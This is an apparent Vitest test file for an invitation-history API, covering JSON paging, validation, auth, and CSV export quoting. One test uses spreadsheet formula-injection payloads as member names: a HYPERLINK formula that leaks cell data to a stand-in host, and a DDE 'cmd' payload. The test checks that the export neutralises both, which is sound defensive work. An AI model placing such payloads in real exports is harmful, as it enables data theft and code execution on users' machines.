import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { HOUR } from '../../src/clock.js';
import { acceptInvitation } from '../../src/commands/acceptInvitations.js';
import { ignoreInvitation } from '../../src/commands/ignoreInvitations.js';
import { sendInvitation } from '../../src/commands/sendInvitation.js';
import { withdrawInvitation } from '../../src/commands/withdrawInvitation.js';
import { csvLines } from '../../src/csv.js';
import { createTestApp, DAY, expectProblem, type TestApp, type TestMember } from '../helpers/app.js';

let t: TestApp;
beforeEach(async () => {
  t = await createTestApp({ config: { invitationTtlDays: 30 } });
});
afterEach(() => t.close());

async function invite(from: TestMember, to: TestMember, message?: string): Promise<string> {
  const result = await sendInvitation(t.deps, from, { recipientId: to.id, message });
  if (result.kind !== 'sent') throw new Error('expected a new invitation');
  return result.invitation.id;
}

const iso = (ms: number) => new Date(ms).toISOString();

/** Signs up one member per name, in parallel, typed as a tuple. */
function signUpAll<const N extends readonly string[]>(...names: N): Promise<{ [K in keyof N]: TestMember }> {
  return Promise.all(names.map((n) => t.signUp(n))) as Promise<{ [K in keyof N]: TestMember }>;
}

describe('I10 contact history (JSON)', () => {
  it('I10 lists every invitation sent, newest first, with the outcome as the sender knows it', async () => {
    const [me, ana, bo, cy, di, ed] = await signUpAll('Me', 'Ana', 'Bo', 'Cy', 'Di', 'Ed');
    const start = t.clock.now();
    const expired = await invite(me, ed, 'Old one');
    t.clock.advance(10 * DAY);
    const accepted = await invite(me, ana, 'Hello Ana');
    t.clock.advance(HOUR);
    const withdrawn = await invite(me, bo);
    t.clock.advance(HOUR);
    const ignored = await invite(me, cy, 'Hi Cy');
    t.clock.advance(HOUR);
    const pending = await invite(me, di);
    t.clock.advance(HOUR);
    await acceptInvitation(t.deps, ana, accepted);
    const acceptedAt = t.clock.now();
    t.clock.advance(HOUR);
    await withdrawInvitation(t.deps, me, withdrawn);
    const withdrawnAt = t.clock.now();
    await ignoreInvitation(t.deps, cy, ignored);
    // The first invitation passes its 30-day time to live; no sweep has recorded it.
    t.clock.set(start + 31 * DAY);

    const res = await t.api('GET', '/invitations/history', me);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.total).toBe(5);
    expect(body.nextCursor).toBeNull();
    const sentAt = (i: number) => iso(start + 10 * DAY + i * HOUR);
    expect(body.items).toEqual([
      {
        id: pending,
        recipient: { id: di.id, name: 'Di', headline: "Di's headline" },
        message: null,
        sentAt: sentAt(3),
        outcome: 'pending',
        endedAt: null,
      },
      {
        id: ignored,
        recipient: { id: cy.id, name: 'Cy', headline: "Cy's headline" },
        message: 'Hi Cy',
        sentAt: sentAt(2),
        outcome: 'pending',
        endedAt: null,
      },
      {
        id: withdrawn,
        recipient: { id: bo.id, name: 'Bo', headline: "Bo's headline" },
        message: null,
        sentAt: sentAt(1),
        outcome: 'withdrawn',
        endedAt: iso(withdrawnAt),
      },
      {
        id: accepted,
        recipient: { id: ana.id, name: 'Ana', headline: "Ana's headline" },
        message: 'Hello Ana',
        sentAt: sentAt(0),
        outcome: 'accepted',
        endedAt: iso(acceptedAt),
      },
      {
        id: expired,
        recipient: { id: ed.id, name: 'Ed', headline: "Ed's headline" },
        message: 'Old one',
        sentAt: iso(start),
        outcome: 'expired',
        endedAt: iso(start + 30 * DAY),
      },
    ]);
  });

  it('I10 an ignored invitation reads pending to its sender, never "ignored"', async () => {
    const [me, them] = await Promise.all([t.signUp('Me'), t.signUp('Them')]);
    const id = await invite(me, them);
    await ignoreInvitation(t.deps, them, id);
    const body = (await t.api('GET', '/invitations/history', me)).json();
    expect(body.items).toEqual([expect.objectContaining({ id, outcome: 'pending', endedAt: null })]);
  });

  it('I10 a withdrawn invitation reads withdrawn, and is not in the recipient’s history', async () => {
    const [me, them] = await Promise.all([t.signUp('Me'), t.signUp('Them')]);
    const id = await invite(me, them);
    await withdrawInvitation(t.deps, me, id);
    const mine = (await t.api('GET', '/invitations/history', me)).json();
    expect(mine.items).toEqual([
      expect.objectContaining({ id, outcome: 'withdrawn', endedAt: iso(t.clock.now()) }),
    ]);
    const theirs = (await t.api('GET', '/invitations/history', them)).json();
    expect(theirs).toEqual({ items: [], nextCursor: null, total: 0 });
  });

  it('I10 pages with limit and cursor over (sentAt, id), with the same total on every page', async () => {
    const me = await t.signUp('Me');
    const others = await Promise.all(Array.from({ length: 5 }, (_, i) => t.signUp(`Other ${i}`)));
    const ids: string[] = [];
    for (const [i, other] of others.entries()) {
      // Two pairs share a sending time, so the id breaks the tie.
      if (i % 2 === 0) t.clock.advance(HOUR);
      ids.push(await invite(me, other));
    }
    const expected = [...ids].sort((a, b) => {
      const ta = ids.indexOf(a) >> 1;
      const tb = ids.indexOf(b) >> 1;
      return tb - ta || (a < b ? 1 : -1);
    });
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const url: string = `/invitations/history?limit=2${cursor ? `&cursor=${cursor}` : ''}`;
      const body = (await t.api('GET', url, me)).json();
      expect(body.total).toBe(5);
      expect(body.items.length).toBeLessThanOrEqual(2);
      seen.push(...body.items.map((i: { id: string }) => i.id));
      cursor = body.nextCursor;
      pages += 1;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toEqual(expected);
  });

  it('I10 refuses a bad limit, cursor or format with validation_failed', async () => {
    const me = await t.signUp('Me');
    expectProblem(await t.api('GET', '/invitations/history?limit=0', me), 400, 'validation_failed');
    expectProblem(await t.api('GET', '/invitations/history?limit=101', me), 400, 'validation_failed');
    expectProblem(await t.api('GET', '/invitations/history?cursor=nope', me), 400, 'validation_failed');
    expectProblem(await t.api('GET', '/invitations/history?format=xml', me), 400, 'validation_failed');
  });

  it('I10 needs a signed-in member (401)', async () => {
    expectProblem(await t.api('GET', '/invitations/history', null), 401, 'unauthorized');
    expectProblem(await t.api('GET', '/invitations/history?format=csv', null), 401, 'unauthorized');
  });
});

describe('I10 contact history (CSV)', () => {
  it('I10 exports every invitation as RFC 4180 CSV: header, CRLF, quotes doubled, no BOM', async () => {
    const [me, ana, bo] = await Promise.all([t.signUp('Me'), t.signUp('Ana, "the" Analyst'), t.signUp('Bo')]);
    const first = t.clock.now();
    const note = 'Loved your talk, "really".\nCoffee?';
    await invite(me, ana, note);
    t.clock.advance(HOUR);
    const second = await invite(me, bo);
    await withdrawInvitation(t.deps, me, second);

    const res = await t.api('GET', '/invitations/history?format=csv', me);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="rapport-invitations.csv"');
    expect(res.rawPayload[0]).not.toBe(0xef); // no UTF-8 byte order mark
    expect(res.body).toBe(
      'recipient_id,recipient_name,message,sent_at,outcome,ended_at\r\n' +
        `${bo.id},Bo,,${iso(first + HOUR)},withdrawn,${iso(first + HOUR)}\r\n` +
        `${ana.id},"Ana, ""the"" Analyst","Loved your talk, ""really"".\nCoffee?",${iso(first)},pending,\r\n`,
    );
  });

  it('I10 quotes a note with a bare carriage return or line break, and leaves plain text bare', async () => {
    const [me, a, b] = await Promise.all([t.signUp('Me'), t.signUp('A'), t.signUp('B')]);
    await invite(me, a, 'one\rtwo');
    t.clock.advance(1000);
    await invite(me, b, 'plain words');
    const lines = (await t.api('GET', '/invitations/history?format=csv', me)).body.split('\r\n');
    expect(lines[1]).toContain(',B,plain words,');
    expect(lines[2]).toContain(',A,"one\rtwo",');
  });

  it('I10 a name or note a spreadsheet would run as a formula gets a leading quote in CSV, and stays exact in JSON', async () => {
    const names = [
      '=HYPERLINK("http://x.test/?leak="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '-2+3',
    ];
    const me = await t.signUp('Me');
    const others = await Promise.all(names.map((n) => t.signUp(n)));
    const notes = ['=1+2', '+44 20 7946 0000', '@here', 'fine = text'];
    for (const [i, other] of others.entries()) {
      t.clock.advance(1000);
      await invite(me, other, notes[i]);
    }
    const res = await t.api('GET', '/invitations/history?format=csv', me);
    const rows = res.body.split('\r\n').slice(1, -1).reverse();
    expect(rows[0]).toContain(`,"'=HYPERLINK(""http://x.test/?leak=""&A1,""click"")",'=1+2,`);
    expect(rows[1]).toContain(`,'+cmd|' /C calc'!A0,'+44 20 7946 0000,`);
    expect(rows[2]).toContain(`,'@SUM(1+1),'@here,`);
    expect(rows[3]).toContain(`,'-2+3,fine = text,`);

    const json = (await t.api('GET', '/invitations/history', me)).json();
    const items = [...json.items].reverse() as { recipient: { name: string }; message: string }[];
    expect(items.map((i) => i.recipient.name)).toEqual(names);
    expect(items.map((i) => i.message)).toEqual(notes);
  });

  it('CSV fields starting with a tab or a carriage return are neutralised too (notes are trimmed, so only other CSVs meet them)', () => {
    expect(csvLines([['\tx', '\ry', 'a-b', '']])).toBe(`'\tx,"'\ry",a-b,\r\n`);
  });

  it('I10 the CSV holds every invitation, not one page, and a member with none gets the header only', async () => {
    const me = await t.signUp('Me');
    const others = await Promise.all(Array.from({ length: 25 }, (_, i) => t.signUp(`Other ${i}`)));
    for (const other of others) {
      t.clock.advance(1000);
      await invite(me, other);
    }
    const csv = (await t.api('GET', '/invitations/history?format=csv&limit=5', me)).body;
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(26);

    const empty = await t.api('GET', '/invitations/history?format=csv', others[0] as TestMember);
    expect(empty.body).toBe('recipient_id,recipient_name,message,sent_at,outcome,ended_at\r\n');
  });
});
